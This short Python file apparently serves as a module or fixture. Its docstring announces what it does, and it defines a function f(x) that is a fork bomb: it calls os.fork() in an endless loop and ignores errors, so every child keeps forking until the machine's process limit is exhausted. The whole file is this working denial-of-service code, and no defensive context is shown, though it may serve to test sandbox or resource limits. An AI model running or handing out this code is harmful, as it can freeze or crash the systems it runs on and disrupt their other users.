"""Forks as long as it can, and so does every child."""

import os


def f(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
